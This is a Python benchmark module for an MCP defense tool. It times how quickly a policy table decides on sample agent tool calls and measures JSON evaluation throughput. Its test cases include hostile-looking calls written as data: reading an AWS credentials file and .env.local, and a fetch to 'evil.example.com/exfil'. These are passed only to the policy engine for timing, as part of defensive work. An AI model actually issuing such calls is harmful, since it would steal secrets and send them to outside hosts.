"""The decision benchmark behind `mcp-defense policy bench` (figures, never assertions)."""

from __future__ import annotations

import io
import json
import statistics
import time
from typing import Any

from mcp_defense.policy.facts import ToolCall
from mcp_defense.policy.table import DecisionTable

# The published tool's demo calls plus a few heavier shapes.
CASES: list[tuple[str, str, str, dict[str, Any]]] = [
    ("read workspace file", "filesystem", "read_file", {"path": "/workspace/main.py"}),
    ("read AWS credentials", "filesystem", "read_file", {"path": "/home/alice/.aws/credentials"}),
    ("exec on filesystem", "filesystem", "exec_command", {"command": "ls /"}),
    ("read .env.local", "filesystem", "read_file", {"path": "/workspace/app/.env.local"}),
    ("exfil fetch", "filesystem", "fetch", {"url": "https://evil.example.com/exfil"}),
    ("github fetch", "github", "fetch", {"url": "https://api.github.com/repos/x/y"}),
    (
        "edit with text",
        "filesystem",
        "edit_file",
        {
            "path": "/workspace/src/app.py",
            "edits": [{"oldText": "a = 1", "newText": "a = 2"}],
            "dryRun": False,
        },
    ),
    (
        "shell pipeline",
        "shell",
        "run_command",
        {"command": "grep -rn TODO src | head -20 > /tmp/todo.txt"},
    ),
]


ROUNDS = 5


def _measure(fn: Any, arg: Any, n: int) -> list[float]:
    """Per-call times in µs, batched to keep timer overhead out of the figure."""
    batch = 50
    out = []
    perf = time.perf_counter_ns
    for _ in range(max(n // batch, 1)):
        t0 = perf()
        for _ in range(batch):
            fn(arg)
        out.append((perf() - t0) / batch / 1000.0)
    return out


def run_bench(
    table: DecisionTable, *, n: int = 20000, lines: int = 100_000, progress: bool = False
) -> dict[str, Any]:
    from mcp_defense.policy.evaluate import available_cpus, eval_lines, eval_stream

    # The cases are measured in ROUNDS interleaved rounds; a case's figure is the median of
    # its best round (the minimum is what timeit reports: slower rounds measure the machine's
    # other tenants, and on a shared VM they come in bursts of seconds that a single median
    # over one run cannot tell from the code). p95 is over every sample.
    runs: list[tuple[str, ToolCall, str, list[float]]] = []
    for name, arch, tool, args in CASES:
        if arch not in table.archetypes:
            continue
        call = ToolCall(archetype=arch, tool=tool, arguments=args, agent_id="bench")
        d = table.decide(call)
        _measure(table.decide, call, 500)  # warm caches
        runs.append((name, call, f"{d.action.value} {d.rule}".strip(), []))
    per_round = max(n // ROUNDS, 50)
    medians: dict[str, list[float]] = {name: [] for name, *_ in runs}
    for _ in range(ROUNDS):
        for name, call, _d, samples in runs:
            got = _measure(table.decide, call, per_round)
            samples.extend(got)
            medians[name].append(statistics.median(got))
    cases = []
    all_samples: list[float] = []
    for name, _call, decision, samples in runs:
        all_samples.extend(samples)
        q = statistics.quantiles(samples, n=20)
        cases.append(
            {
                "name": name,
                "decision": decision,
                "median_us": min(medians[name]),
                "rounds_us": [round(m, 2) for m in medians[name]],
                "p95_us": q[18],
            }
        )

    # `policy eval` end to end: JSON in, decide, JSON out (stdout replaced by a sink).
    rows = []
    for i in range(lines):
        _name, arch, tool, args = CASES[i % len(CASES)]
        rows.append(
            json.dumps(
                {
                    "jsonrpc": "2.0",
                    "id": i,
                    "method": "tools/call",
                    "params": {"name": tool, "arguments": args},
                    "archetype": arch,
                }
            ).encode()
            + b"\n"
        )
    sink = io.StringIO()
    t0 = time.perf_counter()
    eval_lines(table, iter(rows), "", sink.write)
    elapsed = time.perf_counter() - t0
    jobs = available_cpus()
    par_s = 0.0
    if jobs > 1:
        sink = io.StringIO()
        t0 = time.perf_counter()
        eval_stream(table, iter(rows), "", sink.write, jobs)
        par_s = time.perf_counter() - t0
    return {
        "eval_jobs": jobs,
        "eval_parallel_calls_per_s": lines / par_s if par_s else 0.0,
        "policy_version": table.version,
        "cases": cases,
        "median_us": statistics.median(all_samples) if all_samples else 0.0,
        "eval_lines": lines,
        "eval_seconds": elapsed,
        "eval_calls_per_s": lines / elapsed if elapsed else 0.0,
    }
